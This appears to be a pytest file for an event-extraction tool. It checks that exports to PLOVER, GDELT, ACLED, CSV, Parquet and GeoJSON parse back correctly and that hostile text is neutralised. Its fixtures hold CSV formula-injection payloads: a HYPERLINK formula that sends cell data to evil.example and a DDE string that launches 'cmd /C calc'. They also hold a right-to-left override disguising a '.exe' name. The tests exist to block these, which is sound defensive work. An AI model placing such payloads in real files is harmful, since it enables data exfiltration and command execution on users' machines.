"""Every export format, parsed back: PLOVER against a JSON Schema written from the manual, GDELT by column count
and types, ACLED and CSV with the csv module, Parquet with pyarrow, GeoJSON with json; and hostile text neutralised."""
from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from dateline import exports, ontology
from dateline.models import Document, Event, EventActor, EventDate, EventLocation, Evidence, Span

ROOT = Path(__file__).parent.parent
HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
CONTROL = "\x1b[31mRed\x07 Army\x00 \u202egnp.exe"


def _event(id_, etype, mode, sentence, actors, recipients, location=None, date_=None, mentions=()):
    return Event(id=id_, type=etype, mode=mode, factuality="asserted", confidence=0.4, actors=actors, recipients=recipients,
                 location=location, date=date_, evidence=Evidence(sentence=sentence, start=0, end=len(sentence),
                 trigger=Span(start=0, end=3, text=sentence[:3])), mentions=list(mentions), cameo="190", quad_class=4, intensity=-10.0)


def _rows() -> list[dict]:
    """Three stored-event rows: a located clash with two actors and two recipients (one of them hostile text), a
    month-dated protest with no location, and an open-dated visit by an IGO."""
    clash = _event(
        "e1", "ASSAULT", "firearms", "Russian troops and\nWagner fighters clashed with Ukrainian soldiers near Bakhmut.",
        [EventActor(text="Russian troops", name="Russia", country="RUS", sector="MIL"), EventActor(text=HOSTILE, name=HOSTILE, country=None, sector="UAF")],
        [EventActor(text="Ukrainian soldiers", name="Ukraine", country="UKR", sector="MIL"), EventActor(text=CONTROL, name=CONTROL, country="UKR", sector=None)],
        location=EventLocation(name="Bakhmut", geonameid=712451, lat=48.6, lon=38.0, country="UA", level="city"),
        date_=EventDate(value="2023-05-20", precision="day", derived_from="explicit"),
        mentions=[Evidence(sentence="The fighting went on.", start=100, end=121)])
    protest = _event("e2", "PROTEST", "demo", "Police fired tear gas at thousands who marched in May.",
                     [EventActor(text="thousands", sector="CVL")], [], date_=EventDate(value="2023-05", precision="month", derived_from="explicit"))
    visit = _event("e3", "CONSULT", "visit", "NATO's chief visited Kyiv.", [EventActor(text="NATO's chief", name="NATO", country="NATO", sector="IGO")],
                   [EventActor(text="Kyiv", name="Ukraine", country="UKR", sector="GOV")],
                   location=EventLocation(name="Kyiv", geonameid=703448, lat=50.45, lon=30.52, country="UA", level="city"),
                   date_=EventDate(value=None, precision="unknown", derived_from="before-publication", latest="2023-06-01"))
    rows = []
    for ev, url in ((clash, "https://www.example.org/2023/05/20/bakhmut"), (protest, "-2+3 @evil"), (visit, None)):
        row = ev.model_dump(mode="json")
        row["article"] = {"id": "a-" + ev.id, "url": url, "title": "@SUM(1+1)*cmd|' /C calc'!A0", "published": "2023-06-01"}
        rows.append(row)
    return rows


def _export(fmt: str) -> tuple[str, list[str]]:
    out, notices = io.StringIO(), []
    exports.write(_rows(), fmt, out, notices.append)
    return out.getvalue(), notices


def test_every_format_is_registered_documented_and_offered_by_the_cli():
    from click.testing import CliRunner

    from dateline.cli import cli

    assert set(exports.FORMATS) == {"jsonl", "csv", "plover", "gdelt", "acled", "geojson", "parquet"}
    docs = (ROOT / "docs" / "formats.md").read_text()
    help_text = CliRunner().invoke(cli, ["events", "--help"]).output
    for name in exports.FORMATS:
        assert f"`{name}`" in docs and name in help_text


def test_unknown_format_is_a_clear_error():
    from dateline.errors import ExportError

    with pytest.raises(ExportError, match="valid formats are: jsonl"):
        exports.write([], "xlsx", io.StringIO())


def test_plover_validates_against_the_schema_from_the_manual():
    import jsonschema

    schema = json.loads((ROOT / "schemas" / "plover-event.schema.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    text, _ = _export("plover")
    records = [json.loads(line) for line in text.splitlines()]
    assert len(records) == 3
    for record in records:
        errors = [e.message for e in validator.iter_errors(record)]
        assert not errors, errors
    clash, protest, visit = records
    assert [a["entity_text"] for a in clash["actor"]] == ["Russian troops", HOSTILE]
    assert [(r["code"], r["sector"]) for r in clash["recipient"]] == [("UKR", "MIL"), ("UKR", None)]
    assert clash["event"] == ["ASSAULT"] and clash["mode"] == ["firearms"] and clash["quad_code"] == 4 and clash["event_scale"] == -10.0
    assert clash["event_loc"] == {"extracted_place": "Bakhmut", "resolved_place": "Bakhmut", "geonameid": 712451, "lat": 48.6, "lon": 38.0,
                                  "country": "Ukraine", "country_code": "UKR", "resolution": 4, "city": "Bakhmut"}
    assert clash["cite_info"]["url"] == "https://www.example.org/2023/05/20/bakhmut" and clash["cite_info"]["publication"] == "example.org"
    assert clash["event_text"] == ["Russian troops and\nWagner fighters clashed with Ukrainian soldiers near Bakhmut.", "The fighting went on."]
    assert (clash["date"], protest["date"], protest["enddate"]) == ("2023-05-20", "2023-05-01", "2023-05-31")
    assert "event_loc" not in protest and protest["recipient"] == []
    assert visit["date"] == "2023-06-01" and visit["dateline"]["date"]["derived_from"] == "before-publication"
    assert visit["actor"][0]["code"] == "IGO" and visit["actor"][0]["dateline_code"] == "NATO"


def test_csv_and_plover_carry_the_factuality_cue():
    import jsonschema

    rows = _rows()
    sentence = "Russian troops are due to leave Bakhmut."
    rows[0]["factuality"] = "planned"
    rows[0]["evidence"] = {**rows[0]["evidence"], "sentence": sentence, "cue": {"start": 19, "end": 25, "text": sentence[19:25]}}
    out = io.StringIO()
    exports.write(rows, "csv", out, lambda _: None)
    table = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [(r["factuality"], r["factuality_cue"]) for r in table] == [("planned", "due to"), ("asserted", ""), ("asserted", "")]
    out = io.StringIO()
    exports.write(rows, "plover", out, lambda _: None)
    records = [json.loads(line) for line in out.getvalue().splitlines()]
    schema = json.loads((ROOT / "schemas" / "plover-event.schema.json").read_text())
    assert all(not list(jsonschema.Draft202012Validator(schema).iter_errors(r)) for r in records)
    assert [r["dateline"]["factuality_cue"] for r in records] == ["due to", None, None]


def test_gdelt_has_61_typed_columns_one_row_per_dyad():
    text, _ = _export("gdelt")
    rows = list(csv.reader(io.StringIO(text), delimiter="\t"))
    assert len(exports.GDELT_COLUMNS) == 61 and exports.GDELT_COLUMNS[0] == "GLOBALEVENTID" and exports.GDELT_COLUMNS[-1] == "SOURCEURL"
    assert all(len(r) == 61 for r in rows)
    assert len(rows) == 2 * 2 + 1 + 1  # the clash's 2 actors x 2 recipients, the protest, the visit
    col = {name: i for i, name in enumerate(exports.GDELT_COLUMNS)}
    assert len({r[0] for r in rows}) == len(rows)
    for r in rows:
        assert int(r[col["GLOBALEVENTID"]]) > 0
        assert date(int(r[col["SQLDATE"]][:4]), int(r[col["SQLDATE"]][4:6]), int(r[col["SQLDATE"]][6:]))
        assert r[col["MonthYear"]] == r[col["SQLDATE"]][:6] and int(r[col["Year"]]) == 2023
        assert 2023 <= float(r[col["FractionDate"]]) < 2024
        assert int(r[col["QuadClass"]]) in (1, 2, 3, 4) and -10 <= float(r[col["GoldsteinScale"]]) <= 10
        assert r[col["EventRootCode"]] == r[col["EventCode"]][:2]
    first = rows[0]
    assert first[col["Actor1Code"]] == "RUSMIL" and first[col["Actor1CountryCode"]] == "RUS" and first[col["Actor2Code"]] == "UKRMIL"
    assert first[col["NumMentions"]] == "2" and first[col["ActionGeo_CountryCode"]] == "UP"  # FIPS 10-4, as GDELT writes it
    assert float(first[col["ActionGeo_Lat"]]) == 48.6 and first[col["ActionGeo_Type"]] == "4"
    assert first[col["SOURCEURL"]] == "https://www.example.org/2023/05/20/bakhmut"
    hostile = rows[2]
    assert hostile[col["Actor1Name"]].startswith("'=")
    assert rows[4][col["SOURCEURL"]] == "'-2+3 @evil" and rows[4][col["SQLDATE"]] == "20230501"


def test_journalists_and_media_keep_their_codes_in_gdelt_and_acled():
    # CAMEO has no journalists' code: they are its media; ACLED counts both among civilians
    assert exports._gdelt_actor({"text": "Carla Mendes", "country": "BRA", "sector": "JRN"})[0] == "BRAMED"
    assert exports._inter([{"sector": "JRN"}]) == exports._inter([{"sector": "MED"}]) == 7


def test_acled_gives_every_event_an_acled_type_and_sub_type():
    text, _ = _export("acled")
    rows = list(csv.DictReader(io.StringIO(text)))
    types = ontology.acled_table()["event_types"]
    assert len(rows) == 3
    for row in rows:
        assert row["sub_event_type"] in types[row["event_type"]]["sub_event_types"]
        date.fromisoformat(row["event_date"])
    clash, protest, visit = rows
    assert (clash["event_type"], clash["sub_event_type"]) == ("Battles", "Armed clash")
    assert clash["actor1"] == "Russia" and clash["assoc_actor_1"] == "'" + HOSTILE
    assert clash["actor2"] == "Ukraine" and clash["assoc_actor_2"] == "Red Army gnp.exe"
    assert (clash["inter1"], clash["inter2"], clash["interaction"], clash["iso"], clash["time_precision"]) == ("1", "1", "11", "804", "1")
    assert (protest["event_type"], protest["sub_event_type"], protest["inter1"]) == ("Protests", "Protest with intervention", "6")
    assert protest["time_precision"] == "3" and protest["event_date"] == "2023-05-01"
    assert (visit["event_type"], visit["sub_event_type"], visit["time_precision"]) == ("Strategic developments", "Other", "3")


def test_csv_keeps_every_actor_and_recipient_in_order():
    text, _ = _export("csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    clash = rows[0]
    assert clash["actors"] == "Russia; " + HOSTILE and clash["actor_countries"] == "RUS; " and clash["actor_sectors"] == "MIL; UAF"
    assert clash["recipients"] == "Ukraine; Red Army gnp.exe" and clash["recipient_countries"] == "UKR; UKR" and clash["recipient_sectors"] == "MIL; "
    assert clash["sentence"] == "Russian troops and\nWagner fighters clashed with Ukrainian soldiers near Bakhmut."
    assert float(clash["lat"]) == 48.6 and clash["date"] == "2023-05-20" and clash["acled_sub_event_type"] == "Armed clash"


@pytest.mark.parametrize("fmt", ["csv", "acled"])
def test_csv_cells_cannot_run_as_formulas(fmt):
    text, _ = _export(fmt)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells and not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))]
    assert "'-2+3 @evil" in cells and (fmt != "csv" or "'@SUM(1+1)*cmd|' /C calc'!A0" in cells)


def _number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "plover", "gdelt", "acled", "geojson"])
def test_control_characters_never_reach_an_export(fmt):
    text, _ = _export(fmt)
    assert not any(ch in text for ch in "\x1b\x07\x00\u202e")
    assert "red army gnp.exe" in text.lower()


def test_geojson_reports_the_unlocated_events_it_leaves_out():
    text, notices = _export("geojson")
    collection = json.loads(text)
    assert collection["type"] == "FeatureCollection" and [f["id"] for f in collection["features"]] == ["e1", "e3"]
    assert collection["features"][0]["geometry"] == {"type": "Point", "coordinates": [38.0, 48.6]}
    assert notices == ["geojson: left out 1 event without a location (2 written); use --format csv or jsonl to see them"]


def test_parquet_has_typed_columns(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "events.parquet"
    with open(path, "wb") as fh:
        assert exports.write(_rows(), "parquet", fh) == 3
    table = pq.read_table(path)
    schema = table.schema
    assert schema.field("date_first").type == pa.date32() and schema.field("published").type == pa.date32()
    assert schema.field("confidence").type == pa.float64() and schema.field("geonameid").type == pa.int64()
    assert schema.field("quad_class").type == pa.int8() and pa.types.is_list(schema.field("actors").type)
    rows = table.to_pylist()
    assert [r["id"] for r in rows] == ["e1", "e2", "e3"]
    assert rows[0]["date_first"] == date(2023, 5, 20) and rows[1]["date_last"] == date(2023, 5, 31) and rows[2]["date_first"] is None
    assert [a["name"] for a in rows[0]["actors"]] == ["Russia", HOSTILE] and len(rows[0]["recipients"]) == 2
    assert rows[1]["lat"] is None and rows[0]["lat"] == 48.6 and rows[0]["acled_sub_event_type"] == "Armed clash"


def test_cli_exports_from_a_store(tmp_path):
    """The real CLI: GeoJSON's notice on stderr, Parquet written through stdout, every format from one store."""
    from dateline.store import Store

    db = tmp_path / "x.db"
    store = Store(db)
    for row in _rows():
        art = row.pop("article")
        doc = Document()
        doc.article.id, doc.article.url, doc.article.title, doc.article.text = art["id"], art["url"], art["title"], "text " * 20
        doc.article.published.value = art["published"]
        doc.events = [Event.model_validate(row)]
        store.save(doc)

    def run(*args, **kw):
        return subprocess.run([sys.executable, "-m", "dateline", "events", "--db", str(db), *args], capture_output=True, **kw)

    geo = run("--format", "geojson", text=True)
    assert geo.returncode == 0 and len(json.loads(geo.stdout)["features"]) == 2
    assert geo.stderr.strip() == "geojson: left out 1 event without a location (2 written); use --format csv or jsonl to see them"
    parquet = run("--format", "parquet")
    assert parquet.returncode == 0
    import pyarrow.parquet as pq

    assert pq.read_table(io.BytesIO(parquet.stdout)).num_rows == 3
    for fmt in ("jsonl", "csv", "plover", "gdelt", "acled"):
        done = run("--format", fmt, text=True)
        assert done.returncode == 0 and done.stdout and not done.stderr


ISO_DAY = re.compile(r"\d{4}-\d{2}-\d{2}")


@pytest.mark.parametrize("stored, exported", [("20230601", "2023-06-01"), ("2023-06-01T10:00:00Z", "2023-06-01"),
                                              ("2023-W22-4", None), ("yesterday", None), ("2023-02-30", None)])
def test_every_export_writes_iso_dates_even_for_old_stored_values(stored, exported):
    rows = _rows()
    for row in rows:
        row["article"]["published"] = stored
    out = io.StringIO()
    exports.write(rows, "csv", out)
    csv_rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["published"] for r in csv_rows] == [exported or ""] * 3
    for name in ("plover", "jsonl"):
        out = io.StringIO()
        exports.write(rows, name, out)
        for line in out.getvalue().splitlines():
            record = json.loads(line)
            published = record["dateline"]["published"] if name == "plover" else record["article"]["published"]
            assert published == exported
            for key in ("date", "enddate"):
                assert name == "jsonl" or record.get(key) is None or ISO_DAY.fullmatch(record[key])
    out = io.StringIO()
    exports.write(rows, "acled", out)
    assert all(ISO_DAY.fullmatch(r["event_date"]) or r["event_date"] == "" for r in csv.DictReader(io.StringIO(out.getvalue())))


def test_parquet_is_refused_on_a_terminal():
    import os
    import pty

    from dateline.errors import ExportError

    master, slave = pty.openpty()
    with os.fdopen(slave, "w") as terminal:
        with pytest.raises(ExportError, match="binary format and standard output is a terminal; redirect it to a file"):
            exports.write(_rows(), "parquet", terminal)
    os.close(master)


from hypothesis import given, settings as hsettings, strategies as st  # noqa: E402

_HOSTILE_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=40)


@hsettings(max_examples=60, deadline=None)
@given(name=_HOSTILE_TEXT, title=_HOSTILE_TEXT, sentence=_HOSTILE_TEXT)
def test_any_article_text_keeps_every_table_export_well_formed_and_inert(name, title, sentence):
    """Whatever the article says (separators, quotes, line breaks, controls, formula starts), CSV, ACLED and GDELT rows
    parse back to the right shape, and no cell can run as a formula or carries a control character."""
    row = _rows()[0]
    row["actors"][0]["name"] = row["actors"][0]["text"] = name
    row["evidence"]["sentence"], row["article"]["title"] = sentence, title
    for fmt, delimiter, width in (("csv", ",", len(exports.CSV_COLUMNS)), ("acled", ",", len(exports.ACLED_COLUMNS)), ("gdelt", "\t", 61)):
        out = io.StringIO()
        exports.write([row], fmt, out)
        rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter))
        assert len(rows) == (1 + 1 if fmt != "gdelt" else 4) and all(len(r) == width for r in rows)
        for cell in (c for r in rows for c in r):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not (cell.startswith("-") and not _number(cell))
            allowed = "" if fmt == "gdelt" else "\n\t"  # a sentence keeps its line breaks in CSV; a TSV cell is one line
            assert not [ch for ch in cell if ch not in allowed and re.match("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", ch)]
